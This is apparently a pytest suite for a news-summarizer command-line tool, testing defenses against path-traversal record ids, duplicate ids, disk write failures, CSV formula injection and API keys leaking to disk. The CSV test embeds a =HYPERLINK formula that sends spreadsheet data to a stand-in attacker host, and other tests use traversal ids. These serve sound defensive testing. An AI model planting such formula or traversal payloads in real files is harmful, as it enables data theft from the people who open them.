"""Issue 15: hostile input, broken disks and failing endpoints. Each test is named after the
defect it guards against, and runs the real command (`python -m summarizer`) where the defect
was found."""

from __future__ import annotations

import csv
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from fake_openai import FakeOpenAI, Reply, serve

from summarizer.redaction import redact, without_userinfo
from summarizer.render import file_stem

ARTICLE = "Shares of Kestrel Mining rose 4.2% on Monday after the company raised its forecast."
KEY = "sk-planted-KEY-0123456789abcdef"
PASSWORD = "hunter2-planted-pw"


def summarizer(
    *args: str, cwd: Path, stdin: str | None = None, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith("OPENAI_")}
    return subprocess.run(
        [sys.executable, "-m", "summarizer", *args],
        cwd=cwd, input=stdin, capture_output=True, text=True, timeout=120,
        env=base | (env or {}),
    )  # fmt: skip


def records(*items: dict[str, str]) -> str:
    return "".join(json.dumps(item) + "\n" for item in items)


# --- defect 1: a record id is a file path ---------------------------------------------------


@pytest.mark.parametrize(
    "record_id", ["/tmp/escaped-digest", "../../escaped-digest", "..", "a/../../escaped-digest"]
)
def test_record_id_is_a_file_path(tmp_path: Path, record_id: str) -> None:
    work = tmp_path / "work"
    work.mkdir()
    done = summarizer(
        "run", "-", "--format", "json", "--out", "out", "-q", cwd=work,
        stdin=records({"id": record_id, "text": ARTICLE}),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    written = [p for p in tmp_path.rglob("*.json")]
    assert written and all(p.parent == work / "out" for p in written), written
    (digest,) = written
    assert json.loads(digest.read_text(encoding="utf-8"))["id"] == record_id  # the id is kept
    assert not Path("/tmp/escaped-digest.json").exists()


def test_record_id_is_a_file_path_names_stay_short_and_distinct() -> None:
    long_id = "x" * 300
    stems = {file_stem(i) for i in ("a/b", "a_b", "a\0b", long_id, long_id + "y", "", ".")}
    assert len(stems) == 7
    for stem in stems:
        assert len(stem.encode()) <= 120 and "/" not in stem and "\0" not in stem
        assert stem not in ("", ".", "..") and not stem.startswith(".")
    assert file_stem("913aa15821cc605a") == "913aa15821cc605a"  # plain ids are unchanged
    assert file_stem("reuters-2024-06-01_0001") == "reuters-2024-06-01_0001"


# --- defect 6: duplicate ids ------------------------------------------------------------------


def test_duplicate_ids_overwrite_each_other(tmp_path: Path) -> None:
    done = summarizer(
        "run", "-", "--format", "json", "--out", "out", "-q", cwd=tmp_path,
        stdin=records({"id": "same", "text": ARTICLE},
                      {"id": "same", "text": ARTICLE.replace("4.2%", "5.1%")}),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    files = {
        p.name: json.loads(p.read_text(encoding="utf-8")) for p in (tmp_path / "out").glob("*.json")
    }
    assert sorted(files) == ["same-2.json", "same.json"]  # the first in input order keeps the name
    assert {d["id"] for d in files.values()} == {"same"}
    assert [files[n]["moves"][0]["change_pct"] for n in ("same.json", "same-2.json")] == [4.2, 5.1]
    assert "1 articles have the name of another input of this run" in done.stderr
    assert [w for w in files["same-2.json"]["warnings"] if w.startswith("name taken")] == [
        "name taken: another input of this run is named same.json; this one is same-2.json"
    ]
    assert not any(w.startswith("name taken") for w in files["same.json"]["warnings"])


def test_duplicate_ids_overwrite_each_other_in_worker_processes(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    for n in range(40):  # enough files for two worker processes; two names in both folders
        folder = inputs / ("b" if n in (38, 39) else "a")
        folder.mkdir(parents=True, exist_ok=True)
        text = ARTICLE if n in (3, 30) else ARTICLE.replace("4.2%", f"{n + 1}.5%")
        (folder / f"{n % 38:02d}.txt").write_text(text, encoding="utf-8")
    for run in ("one", "two"):  # the same names whichever worker finishes first
        done = summarizer("run", "in", "--format", "json", "--out", run, "-q", "--workers", "2",
                          cwd=tmp_path)  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert "2 articles have the name of another input of this run" in done.stderr
    written = {
        p.name: json.loads(p.read_text(encoding="utf-8")) for p in (tmp_path / "one").glob("*.json")
    }
    assert len(written) == 40  # one text in two files: two digests, by their source paths
    assert written["00.json"]["source_path"] == "in/a/00.txt"
    assert written["00-2.json"]["source_path"] == "in/b/00.txt"
    assert written["01-2.json"]["source_path"] == "in/b/01.txt"
    assert {p.name for p in (tmp_path / "two").glob("*.json")} == set(written)


# --- defect 3: one article's write error kills the batch ---------------------------------------


def test_one_articles_write_error_kills_the_batch(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "blocked.json").mkdir()  # a directory where one article's file must go
    done = summarizer(
        "run", "-", "--format", "json", "--format", "md", "--format", "csv", "--out", "out", "-q",
        cwd=tmp_path,
        stdin=records({"id": "first", "text": ARTICLE}, {"id": "blocked", "text": ARTICLE},
                      {"id": "last", "text": ARTICLE}),
    )  # fmt: skip
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "could not write" in done.stderr and "blocked.json" in done.stderr
    assert (out / "first.json").is_file() and (out / "last.json").is_file()
    report = (out / "digest.md").read_text(encoding="utf-8")
    assert "could not write" in report
    assert "3 articles: 2 ok, 0 partial, 1 failed" in done.stderr
    assert "(2 per-article JSON," in done.stderr


def test_one_articles_write_error_kills_the_batch_read_only_out(tmp_path: Path) -> None:
    if os.geteuid() == 0:
        pytest.skip("root writes into read-only directories")
    out = tmp_path / "out"
    out.mkdir()
    out.chmod(0o555)
    try:
        done = summarizer("run", "-", "--out", "out", "-q", cwd=tmp_path,
                          stdin=records({"id": "a", "text": ARTICLE}))  # fmt: skip
    finally:
        out.chmod(0o755)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "could not write" in done.stderr


def test_one_articles_write_error_kills_the_batch_report_unwritable(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "digest.md").mkdir()  # the report cannot be written; the articles' files can
    done = summarizer("run", "-", "--format", "md", "--format", "csv", "--format", "json",
                      "--out", "out", "-q", cwd=tmp_path,
                      stdin=records({"id": "a", "text": ARTICLE}))  # fmt: skip
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "could not write" in done.stderr and "digest.md" in done.stderr
    assert (out / "a.json").is_file() and (out / "moves.csv").is_file()


# --- defect 9: CSV formula injection ------------------------------------------------------------


def test_csv_formula_injection(tmp_path: Path) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    done = summarizer(
        "run", "-", "--format", "csv", "--out", "out", "-q", cwd=tmp_path,
        stdin=records({"id": "+cmd", "title": title, "text": ARTICLE}),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with (tmp_path / "out" / "moves.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and rows[0]["title"] == "'" + title and rows[0]["article_id"] == "'+cmd"
    assert rows[0]["change_pct"] == "4.2"  # numbers stay numbers


# --- defect 2: credentials reach disk ---------------------------------------------------------


def _everything_written(*paths: Path) -> str:
    texts = []
    for root in paths:
        for path in root.rglob("*") if root.is_dir() else [root]:
            if path.is_file():
                texts.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(texts)


@pytest.mark.parametrize("status", [401, 429, 500])
def test_credentials_reach_disk_through_an_error_body(tmp_path: Path, status: int) -> None:
    def echo_the_key(_body: dict[str, object]) -> Reply:
        message = f"Incorrect API key provided: {KEY} (Authorization: Bearer {KEY})"
        return Reply(status, {"error": {"message": message, "type": "invalid_request_error"}},
                     headers={"retry-after": "0"})  # fmt: skip

    with serve(FakeOpenAI(echo_the_key)) as server:
        url = server.base_url.replace("http://", f"http://planted-user:{PASSWORD}@")
        done = summarizer(
            "run", "-", "--engine", "llm", "--base-url", url, "--model", "m", "--out", "out",
            "--format", "json", "--format", "md", "--format", "csv", "--format", "jsonl",
            "--cache-dir", "cache", cwd=tmp_path, env={"OPENAI_API_KEY": KEY},
            stdin=records({"id": "a", "text": ARTICLE}),
        )  # fmt: skip
    assert done.returncode == 1  # the article failed, and says why
    written = _everything_written(tmp_path / "out", tmp_path / "cache")
    for secret in (KEY, PASSWORD):
        assert secret not in done.stdout + done.stderr
        assert secret not in written
    assert str(status) in done.stderr


def test_credentials_reach_disk_through_an_unreachable_url(tmp_path: Path) -> None:
    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    url = f"http://planted-user:{PASSWORD}@127.0.0.1:{port}/v1"
    done = summarizer(
        "run", "-", "--engine", "llm", "--base-url", url, "--model", "m", "--out", "out",
        "--cache-dir", "cache", cwd=tmp_path, env={"OPENAI_API_KEY": KEY},
        stdin=records({"id": "a", "text": ARTICLE}, {"id": "b", "text": ARTICLE + " Again."}),
    )  # fmt: skip
    assert done.returncode == 1
    written = _everything_written(tmp_path / "out", tmp_path / "cache")
    for secret in (KEY, PASSWORD, "planted-user"):
        assert secret not in done.stdout + done.stderr
        assert secret not in written


def test_credentials_reach_disk_redaction() -> None:
    assert without_userinfo("http://u:p@host:8080/v1") == "http://host:8080/v1"
    assert without_userinfo("https://host/v1") == "https://host/v1"
    text = f"GET http://me:{PASSWORD}@h/v1 failed: Authorization: Bearer abcdefgh12345 {KEY}"
    masked = redact(text, [KEY, PASSWORD])
    assert PASSWORD not in masked and KEY not in masked and "abcdefgh12345" not in masked
    assert redact("sk-anotherkey123456 leaked", []) == "sk-*** leaked"
